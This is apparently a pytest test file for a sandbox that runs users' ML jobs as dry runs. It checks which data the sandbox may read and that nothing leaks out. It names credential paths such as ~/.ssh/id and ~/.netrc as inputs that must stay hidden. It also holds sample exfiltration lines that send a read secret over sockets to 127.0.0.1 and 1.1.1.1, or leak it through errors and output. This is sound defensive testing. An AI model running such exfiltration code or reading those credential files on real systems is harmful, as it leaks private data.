"""What of the machine's data a dry run may read, and that nothing of it gets out."""

import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from kilowait.cli.job_environment import read_sizes
from kilowait.core.errors import InputError
from kilowait.predict.dry_run_access import NOTHING, DryRunAccess, of_caller, of_owner
from kilowait.predict.dry_runs import program_of
from kilowait.predict.dryrun.dry_runner import DryRunner
from kilowait.predict.dryrun.record import Completeness, DryRun
from kilowait.predict.dryrun.sandbox import sandbox_available
from kilowait.program.job_source import JobSource

REASON = sandbox_available()
needs_sandbox = pytest.mark.skipif(REASON is not None, reason=str(REASON))
GOOD = "import os, sys, torch\na, b = torch.randn(4, 5), torch.randn(5, 6)\na @ b\n"


def source(text: str = GOOD, arguments: tuple[str, ...] = (), **files: str) -> JobSource:
    contents = {"job.py": text, **{name.replace("__", "."): content for name, content in files.items()}}
    return JobSource(
        files={name: content.encode() for name, content in contents.items()}, entrypoint="job.py", arguments=arguments
    )


def seen(job: JobSource, root: Path | None, *folders: str, **variables: str) -> DryRunAccess:
    return of_caller(job, root, folders, variables)


@pytest.fixture
def data(tmp_path: Path) -> Path:
    folder = tmp_path / "data"
    folder.mkdir(mode=0o755)
    (folder / "train.bin").write_bytes(bytes(600))
    (folder / "train.bin").chmod(0o644)
    (tmp_path / "outside.txt").write_text("outside")
    (folder / "link").symlink_to(tmp_path / "outside.txt")
    for path in (tmp_path, *tmp_path.parents):
        if path.owner() and os.access(path, os.W_OK) and path.name.startswith(("pytest", "test")):
            path.chmod(0o755)
    return folder


@pytest.fixture(scope="module")
def runner() -> Iterator[DryRunner]:
    with DryRunner(budget_s=20, target="cpu") as runner:
        yield runner


def run(runner: DryRunner, job: JobSource, access: DryRunAccess = NOTHING) -> DryRun:
    return runner.run_program(program_of(job, access))


def test_what_arguments_and_configuration_name_is_seen(tmp_path: Path, data: Path) -> None:
    (tmp_path / "more").mkdir()
    job = source(GOOD, (f"--data={data}", "--out", "/no/such"), conf__yaml=f"path: {tmp_path / 'more'}\n")
    assert set(seen(job, None).data) == {str(data), str(tmp_path / "more")}


@pytest.mark.parametrize(
    ("text", "arguments", "conf"),
    [
        (GOOD, ("--output_dir", "{out}"), ""),
        (GOOD, ("--log-dir={out}",), ""),
        (GOOD, (), "output_dir: {out}  # of an earlier run\n"),
        (GOOD, (), '{{"save_path": "{out}"}}'),
        (GOOD + "out_dir = 'runs'\n", (), ""),
        (GOOD + "parser.add_argument('-o', '--results-dir', type=str,\n    default='runs')\n", (), ""),
    ],
)
def test_where_an_earlier_run_wrote_is_no_data(
    tmp_path: Path, text: str, arguments: tuple[str, ...], conf: str
) -> None:
    """It would be seen read-only, and the program wants to write there."""
    out = tmp_path / "runs"
    (out / "logs").mkdir(parents=True)
    (tmp_path / "train.bin").write_bytes(b"1")
    given = tuple(word.format(out=out) for word in arguments)
    text += "def save(output_dir, data, log_path: str): open('train.bin')\n"
    found = seen(source(text, given, conf__yaml=conf.format(out=out)), tmp_path)
    assert (found.data, dict(found.here)) == ((), {"train.bin": str(tmp_path / "train.bin")})
    assert str(out) in seen(source(text, given), tmp_path, str(out)).data  # unless it is given as data


def test_relative_names_are_found_below_the_programs_folder(tmp_path: Path, data: Path, monkeypatch) -> None:
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    job = source(GOOD + "open('data/train.bin')\n", ("--data", "./data"))
    names = dict(seen(job, tmp_path).here)
    assert names == {"data": str(data), "data/train.bin": str(data / "train.bin")}
    assert seen(job, None).here == ()


@pytest.mark.parametrize(
    "word", ["/", "/etc", "/etc/hostname", "/home", "~", "/proc/self", "~/.ssh", "~/.ssh/id", "~/.netrc"]
)
def test_systems_homes_and_what_is_hidden_in_them_are_not_seen_by_being_named(
    tmp_path: Path, monkeypatch, word: str
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / ".ssh").mkdir()
    (tmp_path / ".ssh" / "id").write_text("key")
    (tmp_path / ".netrc").write_text("key")
    assert seen(source(GOOD, ("--x", word)), None).data == ()


def test_of_the_caches_only_models_and_data_sets_are_seen(tmp_path: Path) -> None:
    base = tmp_path / "huggingface"
    for name in ("hub", "datasets", "assets"):
        (base / name).mkdir(parents=True)
    (base / "token").write_text("hf_secret")
    (tmp_path / "torch" / "hub" / "checkpoints").mkdir(parents=True)
    access = seen(source(), None, HOME="/nobody", HF_HOME=str(base), TORCH_HOME=str(tmp_path / "torch"))
    assert set(access.data) == {str(base / "hub"), str(base / "datasets"), str(tmp_path / "torch" / "hub")}
    assert dict(access.environment)["HF_HUB_CACHE"] == str(base / "hub")
    assert dict(access.environment)["TORCH_HOME"] == str(tmp_path / "torch")


def test_a_folder_that_is_not_there_is_named() -> None:
    with pytest.raises(InputError, match="--data /no/such: not there"):
        seen(source(), None, "/no/such")


def test_a_size_that_is_none_is_named() -> None:
    assert read_sizes(["data/a=b.bin=600MB", "train=60000x1x28x28"]) == (
        ("data/a=b.bin", "600MB"),
        ("train", "60000x1x28x28"),
    )
    for word in ("600MB", "train=", "train=large", "=600MB"):
        with pytest.raises(InputError, match=f"--assume {word}: "):
            read_sizes([word])


@needs_sandbox
def test_a_size_that_is_given_is_that_of_what_is_not_there(runner: DryRunner) -> None:
    text = "import numpy\nassert len(numpy.memmap('data/train.bin', dtype=numpy.uint16, mode='r')) == 300_000_000"
    found = run(runner, source(GOOD + text), DryRunAccess(assumed=(("data/train.bin", "600MB"),)))
    assert (found.completeness, found.reason) == (Completeness.WHOLE, "")
    assert any("data/train.bin" in line and "600" in line for line in found.assumptions)
    assert found.assumed_how == ("given",)


@needs_sandbox
def test_a_program_reads_its_data_and_no_more(runner: DryRunner, tmp_path: Path, data: Path) -> None:
    absolute, outside = str(data / "train.bin"), str(tmp_path / "outside.txt")
    text = (
        f"assert os.path.getsize({absolute!r}) == os.path.getsize('data/train.bin') == 600\n"
        f"assert not os.path.exists({outside!r}) and os.listdir('data') == os.listdir({str(data)!r})\n"
        "assert not os.path.exists('data/link')\n"
        f"for path in ({absolute!r}, 'data/train.bin', 'data/new'):\n"
        "    try: open(path, 'r+' if 'train' in path else 'w')\n"
        "    except OSError: continue\n"
        "    raise AssertionError(path)\n"
        "open('beside', 'w').write('1'); os.makedirs('out'); open('../up', 'w').write('1')\n"
    )
    job = source(GOOD + text, ("--data", str(data), "data"))
    found = run(runner, job, seen(job, tmp_path))
    assert (found.completeness, found.reason) == (Completeness.WHOLE, "")
    without = run(
        runner, source(GOOD + f"import subprocess; raise ValueError(subprocess.call(['/bin/ls', {absolute!r}]))")
    )
    assert "ValueError: 2" in without.reason  # what ls answers for a file that is not there


@needs_sandbox
def test_data_beside_the_folder_of_the_program_is_found(runner: DryRunner, tmp_path: Path, data: Path) -> None:
    (tmp_path / "project").mkdir()
    job = source(GOOD + "assert os.path.getsize(os.path.join(sys.argv[1], 'train.bin')) == 600", ("../data",))
    found = run(runner, job, seen(job, tmp_path / "project"))
    assert (found.completeness, found.reason) == (Completeness.WHOLE, "")


@needs_sandbox
def test_what_a_service_hides_is_hidden_in_a_mount_of_it(runner: DryRunner, tmp_path: Path, data: Path) -> None:
    (tmp_path / "serve").mkdir()
    database = tmp_path / "serve" / "history.db"
    database.write_text("every token")
    access = of_owner([str(tmp_path)], [str(tmp_path / "serve")], None)
    found = run(runner, source(GOOD + f"assert os.path.getsize({str(data / 'train.bin')!r}) == 600\n"
                               f"raise ValueError(open({str(database)!r}).read())"), access)  # fmt: skip
    assert "every token" not in found.reason
    assert "FileNotFoundError" in found.reason


@needs_sandbox
def test_a_program_names_no_path_by_itself(runner: DryRunner, tmp_path: Path) -> None:
    (tmp_path / "history.db").write_text("every token")
    job = source(GOOD + "raise ValueError(open(sys.argv[1]).read())", (str(tmp_path / "history.db"),))
    assert "every token" not in run(runner, job, of_owner([], [], None)).reason


@needs_sandbox
@pytest.mark.parametrize(
    "attempt",
    [
        "import socket; socket.create_connection(('127.0.0.1', 80), 1).send(secret.encode())",
        "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(secret.encode(), ('1.1.1.1', 53))",
        "raise ValueError(secret * 100_000)",
        "for i in range(10_000): os.environ.get(secret + str(i))",
        "import importlib; importlib.import_module(secret * 1000)",
        "while True: print(secret)",
    ],
)
def test_little_of_mounted_data_gets_out(runner: DryRunner, tmp_path: Path, data: Path, attempt: str) -> None:
    (data / "rows").write_text("0123456789" * 1000)
    (data / "rows").chmod(0o644)
    job = source(GOOD + f"secret = open({str(data / 'rows')!r}).read()\n" + attempt)
    with DryRunner(budget_s=3, target="cpu") as brief:
        found = run(brief, job, DryRunAccess(data=(str(data),)))
    said = [found.reason, *found.assumptions, *found.missing, *found.unset]
    assert sum(map(len, said)) <= 1000 + 50 * 300
    assert len(found.reason) <= 1000
    if "socket" in attempt:
        assert "Error" in found.reason
